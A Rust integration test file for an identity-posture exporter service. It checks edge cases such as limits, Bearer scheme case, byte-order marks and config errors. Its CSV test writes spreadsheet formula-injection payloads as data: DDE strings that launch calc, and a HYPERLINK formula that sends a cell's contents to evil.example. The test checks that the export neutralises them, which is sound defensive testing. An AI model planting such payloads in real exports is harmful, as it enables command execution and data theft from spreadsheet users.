//! Issue #14's input edge cases end to end: CSV formula injection in the findings export,
//! `limit=0`, `Authorization` scheme case, timestamps in the future, byte-order marks in the
//! configuration and in file-source data, a directory as `--config`, and the `[server]`
//! connection keys.

use std::sync::Arc;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use http_body_util::BodyExt;
use identity_posture_exporter::config::Config;
use identity_posture_exporter::poller::{poll_and_publish, Clock};
use identity_posture_exporter::server;
use identity_posture_exporter::sources::{self, file, Deps, Source};
use identity_posture_exporter::state::AppState;
use time::macros::datetime;
use tower::ServiceExt;

const NOW: time::OffsetDateTime = datetime!(2026-11-28 12:00 UTC);

fn file_config(path: &std::path::Path, server_extra: &str) -> Config {
    sources::config_from_toml(&format!(
        "[server]\nlisten = \"127.0.0.1:0\"\n{server_extra}\n[[sources]]\nname = \"f\"\ntype = \"file\"\npath = \"{}\"\n",
        path.display()
    ))
    .unwrap()
}

/// Polls the file once and returns the router over it.
async fn polled(cfg: &Config) -> (axum::Router, Arc<AppState>) {
    let state = Arc::new(AppState::new(&cfg.sources));
    let clock: Clock = Arc::new(|| NOW);
    let src = Source::build(&cfg.sources[0], &Deps::default()).unwrap();
    poll_and_publish(&cfg.sources[0], &src, &state.sources[0], &state, &clock)
        .await
        .unwrap();
    (server::app(state.clone(), &cfg.server).unwrap(), state)
}

async fn call(app: &axum::Router, req: Request<Body>) -> (StatusCode, String) {
    let resp = app.clone().oneshot(req).await.unwrap();
    let status = resp.status();
    let body = resp.into_body().collect().await.unwrap().to_bytes();
    (status, String::from_utf8_lossy(&body).into_owned())
}

fn get(uri: &str) -> Request<Body> {
    Request::get(uri).body(Body::empty()).unwrap()
}

/// One active account without MFA (so it has a finding) whose text fields are `name`.
fn account_named(id: &str, name: &str) -> serde_json::Value {
    serde_json::json!({
        "id": id, "login": name, "display_name": name, "account_type": "human",
        "status": "active", "created": "2020-01-01T00:00:00Z",
        "last_login": "2026-11-27T00:00:00Z", "mfa": {"factors": []}
    })
}

#[tokio::test]
async fn csv_export_neutralises_every_formula_trigger() {
    let triggers = ["=", "+", "-", "@", "\t", "\r"];
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("evil.json");
    let mut accounts: Vec<serde_json::Value> = triggers
        .iter()
        .enumerate()
        .map(|(i, t)| account_named(&format!("u{i}"), &format!("{t}cmd|' /C calc'!A0")))
        .collect();
    accounts.push(account_named(
        "u9",
        r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
    ));
    accounts.push(account_named("-42", "-42"));
    std::fs::write(
        &path,
        serde_json::to_string(&serde_json::json!({ "accounts": accounts })).unwrap(),
    )
    .unwrap();
    let (app, _) = polled(&file_config(&path, "")).await;
    let (status, body) = call(&app, get("/api/v1/findings?format=csv&check=mfa.missing")).await;
    assert_eq!(status, 200);
    assert!(body.starts_with("\"source\",\"provider\",\"scope\",\"account_id\",\"login\""));
    let mut r = csv::Reader::from_reader(body.as_bytes());
    let hdr = r.headers().unwrap().clone();
    let col = |name: &str| hdr.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), triggers.len() + 2);
    for (i, t) in triggers.iter().enumerate() {
        let row = rows
            .iter()
            .find(|r| r[col("account_id")] == format!("u{i}"))
            .unwrap();
        for c in ["login", "display_name"] {
            assert_eq!(
                &row[col(c)],
                format!("'{t}cmd|' /C calc'!A0"),
                "{t:?} in {c}"
            );
        }
    }
    let link = rows.iter().find(|r| &r[col("account_id")] == "u9").unwrap();
    assert!(link[col("display_name")].starts_with("'=HYPERLINK("));
    // A plain number stays a number, in a provider's column as in ours.
    let num = rows
        .iter()
        .find(|r| &r[col("account_id")] == "-42")
        .unwrap();
    assert_eq!(&num[col("login")], "-42");
    // The JSON view is not a spreadsheet: values are exactly what the provider sent.
    let (_, json) = call(&app, get("/api/v1/findings?check=mfa.missing")).await;
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert!(v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["login"] == "=cmd|' /C calc'!A0"));
}

#[tokio::test]
async fn limit_zero_is_an_error_not_one_finding() {
    let cfg = file_config(std::path::Path::new("tests/data/org.json"), "");
    let (app, _) = polled(&cfg).await;
    let (status, body) = call(&app, get("/api/v1/findings?limit=0")).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("limit must be between 1 and 10000"), "{body}");
    let (status, body) = call(&app, get("/api/v1/findings?limit=1")).await;
    assert_eq!(status, 200);
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["count"], 1);
    let (status, _) = call(&app, get("/api/v1/findings?limit=-1")).await;
    assert_eq!(status, 400);
}

#[tokio::test]
async fn bearer_scheme_is_case_insensitive() {
    let dir = tempfile::tempdir().unwrap();
    let tok = dir.path().join("token");
    std::fs::write(&tok, "t0ken\n").unwrap();
    let mut cfg = file_config(
        std::path::Path::new("tests/data/org.json"),
        &format!("api_token_file = \"{}\"", tok.display()),
    );
    cfg.server.listen = "0.0.0.0:9863".parse().unwrap();
    let (app, _) = polled(&cfg).await;
    for scheme in ["Bearer", "bearer", "BEARER", "bEaReR"] {
        let req = Request::get("/api/v1/sources")
            .header(header::AUTHORIZATION, format!("{scheme} t0ken"))
            .body(Body::empty())
            .unwrap();
        assert_eq!(call(&app, req).await.0, 200, "{scheme}");
    }
    let req = Request::get("/api/v1/sources")
        .header(header::AUTHORIZATION, "Bearer t0kem")
        .body(Body::empty())
        .unwrap();
    assert_eq!(call(&app, req).await.0, 401);
}

#[tokio::test]
async fn future_timestamps_are_counted_per_source_and_field() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("future.ndjson");
    let line = |id: &str, rotated: &str| {
        serde_json::json!({
            "id": id, "login": id, "account_type": "service", "status": "active",
            "created": "2020-01-01T00:00:00Z", "last_login": "2099-01-01T00:00:00Z",
            "credentials": [{"type": "access_key", "id": "k", "last_rotated": rotated}]
        })
        .to_string()
    };
    std::fs::write(
        &path,
        format!(
            "{}\n{}\n",
            line("svc-a", "2099-01-01T00:00:00Z"),
            line("svc-b", "2020-01-01T00:00:00Z")
        ),
    )
    .unwrap();
    let (app, _) = polled(&file_config(&path, "")).await;
    let (_, text) = call(&app, get("/metrics")).await;
    let value = |field: &str| -> String {
        let series = format!(
            "identity_posture_future_timestamps{{field=\"{field}\",provider=\"file\",source=\"f\"}} "
        );
        text.lines()
            .find_map(|l| l.strip_prefix(series.as_str()))
            .unwrap_or_else(|| panic!("{series}"))
            .to_string()
    };
    assert_eq!(value("last_login"), "2");
    assert_eq!(value("last_rotated"), "1");
    assert_eq!(value("created"), "0");
    assert_eq!(value("last_used"), "0");
    // The 2099 rotation date counts as "now": only svc-b's 2020 key is unrotated.
    let (_, body) = call(&app, get("/api/v1/findings?check=credential.unrotated")).await;
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    let ids: Vec<&str> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["account_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, vec!["svc-b"]);
}

#[test]
fn a_byte_order_mark_is_accepted_in_the_config_and_in_file_data() {
    let dir = tempfile::tempdir().unwrap();
    let data = r#"{"id": "u1", "login": "a@x", "account_type": "human", "status": "active"}"#;
    let ndjson = dir.path().join("bom.ndjson");
    std::fs::write(
        &ndjson,
        format!("\u{feff}{data}\n{}\n", data.replace("u1", "u2")),
    )
    .unwrap();
    let json = dir.path().join("bom.json");
    std::fs::write(&json, format!("\u{feff}{{\"accounts\": [{data}]}}")).unwrap();
    let json_no_ext = dir.path().join("bom-ndjson.txt");
    std::fs::write(&json_no_ext, format!("\u{feff}{data}\n")).unwrap();
    assert_eq!(file::read_all(&ndjson).unwrap().0.len(), 2);
    assert_eq!(file::read_all(&json).unwrap().0.len(), 1);
    assert_eq!(file::read_all(&json_no_ext).unwrap().0.len(), 1);

    let cfg = dir.path().join("config.toml");
    std::fs::write(
        &cfg,
        format!(
            "\u{feff}[[sources]]\nname = \"f\"\ntype = \"file\"\npath = \"{}\"\n",
            json.display()
        ),
    )
    .unwrap();
    let c = sources::load_config(&cfg).unwrap();
    assert_eq!(c.sources[0].name, "f");
}

#[test]
fn a_directory_as_config_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let e = sources::load_config(dir.path()).unwrap_err().to_string();
    assert!(e.contains("is a directory"), "{e}");
    let e = sources::load_config(&dir.path().join("nope.toml"))
        .unwrap_err()
        .to_string();
    assert!(e.contains("no such file"), "{e}");
    let bad = dir.path().join("latin1.toml");
    std::fs::write(&bad, b"# caf\xe9\n").unwrap();
    let e = sources::load_config(&bad).unwrap_err().to_string();
    assert!(e.contains("not UTF-8"), "{e}");
}

#[test]
fn server_connection_keys_have_defaults_and_bounds() {
    let base = "[[sources]]\nname = \"f\"\ntype = \"file\"\npath = \"x.json\"\n";
    let c = sources::config_from_toml(base).unwrap();
    assert_eq!(c.server.limits.max_connections, 512);
    assert_eq!(
        c.server.limits.header_read_timeout,
        std::time::Duration::from_secs(10)
    );
    assert_eq!(
        c.server.limits.idle_timeout,
        std::time::Duration::from_secs(120)
    );
    let c = sources::config_from_toml(&format!(
        "[server]\nmax_connections = 64\nheader_read_timeout = \"2s\"\nidle_timeout = \"30s\"\n{base}"
    ))
    .unwrap();
    assert_eq!(c.server.limits.max_connections, 64);
    assert_eq!(
        c.server.limits.header_read_timeout,
        std::time::Duration::from_secs(2)
    );
    let e = sources::config_from_toml(&format!(
        "[server]\nmax_connections = 0\nheader_read_timeout = \"soon\"\nidle_timeout = \"2h\"\n{base}"
    ))
    .unwrap_err()
    .problems;
    assert!(
        e.iter()
            .any(|p| p.starts_with("server.max_connections: 0 is out of range")),
        "{e:?}"
    );
    assert!(
        e.iter()
            .any(|p| p.starts_with("server.header_read_timeout: invalid duration")),
        "{e:?}"
    );
    assert!(
        e.iter().any(|p| p == "server.idle_timeout: at most 1h"),
        "{e:?}"
    );
}

#[test]
fn toml_syntax_errors_keep_the_position_but_not_the_line() {
    let e = sources::config_from_toml(
        "[server]\nlisten = \"127.0.0.1:1\"\nlisten = \"hunter2-secret\"\n",
    )
    .unwrap_err()
    .problems
    .join("\n");
    assert!(e.contains("line 3"), "{e}");
    assert!(e.contains("duplicate key"), "{e}");
    assert!(!e.contains("hunter2"), "{e}");
}
